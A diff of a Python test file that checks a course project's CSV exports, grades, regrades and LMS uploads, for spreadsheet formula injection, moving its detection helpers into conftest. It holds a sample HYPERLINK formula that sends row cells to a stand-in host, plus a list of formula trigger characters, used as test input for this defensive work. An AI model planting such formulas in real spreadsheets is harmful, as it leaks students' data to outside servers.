@@ -9,7 +9,6 @@ Example run: python -m pytest tests/course/test_safe_csv.py -q
 """
 
 import csv
-import string
 import tempfile
 from pathlib import Path
 
@@ -19,6 +18,8 @@ from hypothesis import strategies as st
 from specdec_course import export, results
 from specdec_course.safe_csv import escape, inert, unescape
 
+from conftest import runs_as_formula, spreadsheet_formulas
+
 # The issue's example: a message that would send the next cells of the row to a stranger's server.
 HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A2&B2, "grades")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", " =", "'", "''=")
@@ -27,28 +28,6 @@ PROPERTY = settings(max_examples=100, deadline=None)  # a shared 2-core machine:
 text = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=40)
 hostile = st.one_of(text, st.tuples(st.sampled_from(TRIGGERS), text).map("".join), st.just(HYPERLINK),
                     st.from_regex(r"[+-]?\d{1,4}(\.\d{1,3})?([eE][+-]?\d)?", fullmatch=True))
-
-
-def is_number(cell: str) -> bool:
-    """A spreadsheet takes the cell as a number: float() reads it, and it holds only digits, signs, a point and an
-    exponent's e (float() also takes spaces, "inf", "1_000" and other scripts' digits)."""
-    try:
-        float(cell)
-    except ValueError:
-        return False
-    return not set(cell.lower()) - set(string.digits + "+-.e")
-
-
-def runs_as_formula(cell: str) -> bool:
-    """Whether a spreadsheet would run `cell`: it starts, after leading spaces, with = + - @, or with a tab or a
-    carriage return (OWASP's list), and is not a number."""
-    return (cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")) and not is_number(cell)
-
-
-def formulas(path: Path) -> list[str]:
-    """The cells of the CSV at `path` that a spreadsheet opening it would run."""
-    with path.open(newline="", encoding="utf-8") as f:
-        return [cell for row in csv.reader(f) for cell in row if runs_as_formula(cell)]
 
 
 def grade_row(student: str, values: list[str]) -> dict[str, str]:
@@ -76,7 +55,7 @@ def test_grades_and_regrades_open_with_no_formula_and_read_back_as_written(stude
         assert [{k: v for k, v in old.items() if k != "replaced_at"} for old in history] == first, \
             "regrades.csv reads back each replaced row exactly"
         for path in (grades, grades.parent / "regrades.csv"):
-            assert formulas(path) == [], f"{path.name}: a spreadsheet would run {formulas(path)}"
+            assert not (found := spreadsheet_formulas(path)), f"{path.name}: a spreadsheet would run {found}"
 
 
 @PROPERTY
@@ -94,7 +73,7 @@ def test_lms_exports_open_with_no_formula(students):
             csv.writer(f).writerows(template_rows)
         export.fill_canvas(template, grades, canvas)
         for path in (gradescope, canvas):
-            assert formulas(path) == [], f"{path.name}: a spreadsheet would run {formulas(path)}"
+            assert not (found := spreadsheet_formulas(path)), f"{path.name}: a spreadsheet would run {found}"
         with gradescope.open(newline="", encoding="utf-8") as f:
             sids = [row[0] for row in csv.reader(f)][1:]
         assert sids == [inert(student) for student, _ in students], "each SID is the student's id, made inert"
